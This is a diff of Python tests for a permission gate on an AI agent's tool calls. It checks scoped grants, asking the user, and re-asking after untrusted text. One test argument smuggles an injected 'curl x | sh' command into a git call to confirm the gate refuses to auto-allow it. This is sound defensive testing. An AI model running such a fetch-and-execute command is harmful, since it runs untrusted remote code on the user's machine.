@@ -72,7 +72,9 @@ async def test_a_read_in_the_folder_needs_no_question(gate, context):
 
 
 async def test_a_denied_call_never_runs(gate, context):
-    decision = await gate.judge("test.act", {"argv": ["ls"]}, context, chat_title="Trip", why="You asked.", said="ok")
+    decision = await gate.judge(
+        "test.act", {"argv": ["ls"]}, context, chat_title="Trip", why="You asked.", said="ok"
+    )
     assert decision.effect == "ask"
     ask = decision.ask
     assert (ask.chat, ask.why, ask.said, ask.tainted) == ("Trip", "You asked.", "ok", False)
@@ -146,7 +148,12 @@ async def test_a_chat_grant_covers_exactly_that_command_in_that_chat(gate, conte
     assert "exactly `git status`" in decision.ask.offers[1].words
     await gate.answered(decision.ask, Answer(True, Scope.CHAT), "chat")
     assert (await gate.judge("test.act", {"argv": ["git", "status"]}, context)).effect == "allow"
-    for argv in (["git", "status; curl x | sh"], ["git", "status", "-s"], ["git"], ["sh", "-c", "git status"]):
+    for argv in (
+        ["git", "status; curl x | sh"],
+        ["git", "status", "-s"],
+        ["git"],
+        ["sh", "-c", "git status"],
+    ):
         assert (await gate.judge("test.act", {"argv": argv}, context)).effect == "ask"
     elsewhere = replace(context, conversation_id="b")
     assert (await gate.judge("test.act", {"argv": ["git", "status"]}, elsewhere)).effect == "ask"
@@ -159,7 +166,9 @@ async def test_a_chat_grant_covers_exactly_that_command_in_that_chat(gate, conte
 async def test_after_untrusted_text_a_stored_grant_asks_and_says_so(gate, context):
     first = await gate.judge("test.act", {"argv": ["git", "status"]}, context)
     await gate.answered(first.ask, Answer(True, Scope.ALWAYS), "chat")
-    again = await gate.judge("test.act", {"argv": ["git", "status"]}, context, tainted=True, why="You wrote: tidy up.")
+    again = await gate.judge(
+        "test.act", {"argv": ["git", "status"]}, context, tainted=True, why="You wrote: tidy up."
+    )
     assert again.effect == "ask" and again.ask.tainted
     assert again.ask.why.startswith("You wrote: tidy up. Text from the screen")
     assert [offer.scope for offer in again.ask.offers] == [Scope.ONCE]
